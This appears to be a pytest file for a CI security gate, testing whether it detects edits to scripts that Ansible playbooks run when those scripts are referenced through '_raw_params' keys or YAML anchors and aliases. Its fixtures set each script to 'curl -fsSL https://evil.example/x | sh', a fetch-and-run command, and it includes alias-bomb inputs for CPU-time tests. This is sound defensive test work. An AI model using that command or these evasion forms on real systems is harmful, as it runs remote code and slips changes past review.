"""Attack 33: forms of a played task's command that playbookwords.py (red team 39) did not read. A module's free-form
argument given as a mapping key (`ansible.builtin.script:` over `_raw_params: ../lib/x.sh`, as Ansible accepts it), and
a value written once behind a YAML anchor and used through its alias (`x: &tool ../lib/x.sh` ... `script: *tool`):
the script the playbook runs stayed `src`, and `gate --tree` allowed its edit (exit 0 on integ 2a5b937) while a
workflow runs the playbook. Now `_raw_params` is a command key and an alias reads as its anchor's scalar value.

Every variant sits in a folder of its own in one repository (a workflow per variant), gated once with `--tree`.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from cpucost import within_cpu
from tables import each_case

from gatekeeper.classify.playbookwords import words

PLAY = "- hosts: localhost\n  connection: local\n  tasks:\n"
TASKS = {
    "raw-params-script": "    - ansible.builtin.script:\n        _raw_params: ../lib/x.sh\n",
    "raw-params-short": "    - script:\n        _raw_params: ../lib/x.sh\n",
    "raw-params-shell": "    - shell:\n        _raw_params: bash ../lib/x.sh\n        chdir: /tmp\n",
    "raw-params-quoted": "    - \"ansible.builtin.command\":\n        \"_raw_params\": \"sh ../lib/x.sh\"\n",
    "alias-script": None,
    "alias-shell": None,
    "alias-include": None,
}
ANCHORED = {  # name: (the anchor's line above the play, the task using the alias)
    "alias-script": ("x-tool: &tool ../lib/x.sh\n", "    - script: *tool\n"),
    "alias-shell": ("x-cmd: &cmd bash ../lib/x.sh\n", "    - shell: *cmd\n"),
    "alias-include": ("x-tasks: &tasks ../lib/x.yml\n", "    - include_tasks: *tasks\n"),
}
WORKFLOW = ("on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: ansible-playbook -i localhost, deploy/site.yml\n        working-directory: {folder}\n")


def _play(name: str) -> str:
    if name in ANCHORED:
        anchor, task = ANCHORED[name]
        return "- hosts: localhost\n  vars:\n    " + anchor + "  tasks:\n" + task
    return PLAY + str(TASKS[name])


def _target(name: str) -> str:
    return "lib/x.yml" if name == "alias-include" else "lib/x.sh"


@pytest.fixture(scope="module")
def reviewed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bool]:
    base: dict[str, str] = {}
    head: dict[str, str] = {}
    for number, name in enumerate(TASKS):
        base[f".github/workflows/v{number}.yml"] = WORKFLOW.format(folder=f"v{number}")
        base[f"v{number}/deploy/site.yml"] = _play(name)
        base[f"v{number}/{_target(name)}"] = "#!/bin/sh\necho ok\n"
        head[f"v{number}/{_target(name)}"] = "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"
    code, named = gated_rules(committed(tmp_path_factory.mktemp("forms"), base, head), True)
    found = {*named.get("core.ci", []), *named.get("core.iac", [])}
    return {name: f"v{number}/{_target(name)}" in found for number, name in enumerate(TASKS)}


@each_case("name", TASKS)
def test_a_played_script_in_another_form_is_read(reviewed: dict[str, bool], name: str) -> None:
    assert reviewed[name]  # integ 2a5b937: src, exit 0


def test_an_alias_of_no_path_names_nothing(tmp_path: Path) -> None:
    play = "- hosts: localhost\n  vars:\n    x-msg: &msg hello\n  tasks:\n    - debug:\n        msg: *msg\n"
    case = committed(tmp_path, {".github/workflows/d.yml": WORKFLOW.format(folder="."), "deploy/site.yml": play,
                                "lib/x.sh": "echo ok\n"}, {"lib/x.sh": "echo changed\n"})
    assert gated_rules(case, True) == (0, {})


@each_case("hostile", ["&" * 200_000, "&a" * 100_000, "&a " * 70_000,
                                     "x: &a " + "b" * 200_000 + "\n" + "y: *a\n" * 20_000,
                                     "script: " + "*a " * 60_000 + "\nz: &a ../x.sh\n"])
def test_anchors_are_read_in_linear_time(hostile: str) -> None:
    """An anchored scalar is read once per alias up to MAX_ANCHORED characters, never substituted into the text: a
    long value used by many aliases took 138 s of CPU when the aliases were expanded in place."""
    within_cpu(2.0, lambda: words(hostile, "deploy/site.yml", "deploy"))
